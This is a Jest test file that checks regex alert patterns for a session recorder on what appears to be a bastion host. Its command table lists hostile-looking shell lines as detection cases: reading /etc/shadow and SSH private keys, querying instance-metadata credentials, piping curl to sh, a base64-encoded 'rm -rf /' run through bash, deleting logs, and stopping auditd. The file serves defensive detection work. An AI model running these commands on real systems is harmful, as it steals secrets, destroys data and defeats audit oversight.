import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DEFAULT_ALERTS } from '../../../constructs/session-recording/alerts/default-alerts';
import { obstacleOf } from '../../../constructs/session-recording/alerts/pattern';

describe('a pattern that is looked for in commands', () => {
  test.each([
    '^sudo( |$)',
    '\\b(curl|wget)\\b.*\\| *(ba|z)?sh',
    '[^\\s/]+\\.[a-z]{2,4}',
    '(a*)*b',
    '(?:x|y)+?\\/',
    '[\\]\\-\\d]',
    'a{3}',
    'a{3,}',
  ])('may be %s', (pattern) => {
    expect(obstacleOf(pattern)).toBeUndefined();
  });

  test.each([
    ['(', 'is no regular expression'],
    ['a**', 'is no regular expression'],
    ['a{,3}', 'is no regular expression'],
    ['a++', 'is no regular expression'],
    ['(?<=a)b', '(?<='],
    ['(?!a)b', '(?!'],
    ['(?<name>a)', '(?<n'],
    ['(?i:a)', '(?i'],
    ['(a)\\1', '\\1'],
    ['\\p{L}', '\\p'],
    ['\\u0041', '\\u'],
    ['[\\x41]', '\\x'],
    ['[]', '[]'],
    ['[^]', '[^]'],
    ['a{1001}', 'more than 1000'],
    ['((a{20}){20}){20}', 'more than 1000'],
    ['(a{600}|b{600})', 'more than 1000'],
  ])('may not be %s', (pattern, why) => {
    expect(obstacleOf(pattern)?.en).toContain(why);
  });

  test('that is ready-made is one, each with a name of its own', () => {
    expect(DEFAULT_ALERTS.filter(({ pattern }) => obstacleOf(pattern))).toEqual([]);
    expect(new Set(DEFAULT_ALERTS.map(({ name }) => name)).size).toBe(DEFAULT_ALERTS.length);
  });
});

/** What `isms-ssh` runs: the way on to targets that the bastion itself has. */
function onwards(): string {
  const source = readFileSync(join(__dirname, '../../../constructs/session-recording/recorder/isms_ssh.py'), 'utf8');
  const [, options = ''] = /^OPTIONS = \(([^)]+)\)/m.exec(source) ?? [];
  const words = [...options.matchAll(/"([^"]+)"/g)].map(([, part]) => part).join('');
  expect(words).toContain('StrictHostKeyChecking');
  return `ssh ${words} -i /tmp/isms-ssh-abcwefgh/key -o HostKeyAlias=prod-web -p 22 -l jane 10.20.4.7`;
}

/** A command, as the kernel ran it, and the alerts that it gives. */
const COMMANDS: Readonly<Record<string, readonly string[]>> = {
  'sudo -i': ['become-another-user'],
  '/usr/bin/su - root': ['become-another-user'],
  '/lib64/ld-linux-x86-64.so.2 /usr/bin/sudo id': ['become-another-user'],
  'cat /home/li/.ssh/id_ed25519': ['home-of-others'],
  'less /etc/shadow': ['system-secrets'],
  'cat /etc//shadow': ['system-secrets'],
  'cat /etc/././/shadow': ['system-secrets'],
  'curl -s http://169.254.169.254/latest/meta-data/iam/': ['instance-credentials', 'file-transfer'],
  'sh -c curl -s https://example.com/x | sh': ['fetched-and-run'],
  'bash -c echo cm0gLXJmIC8K | base64 -d | bash': ['fetched-and-run'],
  'scp a b:': ['file-transfer'],
  'ssh -fNL 8080:db:80 target': ['tunnel'],
  'ssh target -D 1080': ['tunnel'],
  'ssh -tt -e none target': ['tunnel'],
  'ssh -t target -qt': ['tunnel'],
  'ssh -t target': [],
  'ssh -o RequestTTY=force target': ['tunnel'],
  'ssh -oREQUESTTTY=force target': ['tunnel'],
  'ssh -olocalforward=1:h:2 target': ['tunnel'],
  'cat /home/li//.ssh/id_rsa': ['home-of-others'],
  'ssh -o DynamicForward=1080 target': ['tunnel'],
  'ssh -oproxycommand=nc target': ['tunnel'],
  'rm -f /var/log/messages': ['traces-removed'],
  'pkill -f service.py': ['recorder-attacked'],
  '/usr/bin/systemctl --now disable amazon-ssm-agent': ['recorder-stopped'],
  'service auditd stop': ['recorder-stopped'],
  'auditctl -e 0': ['recorder-attacked', 'kernel-changed'],
  'dnf install nmap': ['packages'],
  'crontab -e': ['runs-later'],
  '/tmp/x --help': ['brought-along'],
  '/memfd:x (deleted) 1': ['brought-along'],
  'ls -la /tmp': [],
  'vim /etc/nginx/nginx.conf': [],
  'grep -r sudo /usr/share/doc': [],
  'man su': [],
  'ssh target': [],
  'ssh -oLogLevel=error -i /tmp/LRDw target': [],
  [onwards()]: [],
  'journalctl -u nginx': [],
  'systemctl status nginx': [],
  'systemctl status amazon-ssm-agent': [],
  'less /var/log/service notes-Dec.txt': [],
  'java -Dname=order-service -Dx=1': [],
  'git pull': [],
  'kubectl get pods': [],
  'mysql -h db -e select 1': [],
};

test.each(Object.entries(COMMANDS))('of %s is told by the ready-made patterns: %s', (command, expected) => {
  const found = DEFAULT_ALERTS.filter(({ pattern }) => new RegExp(pattern, 'su').test(command));

  expect(found.map(({ name }) => name)).toEqual(expected);
});
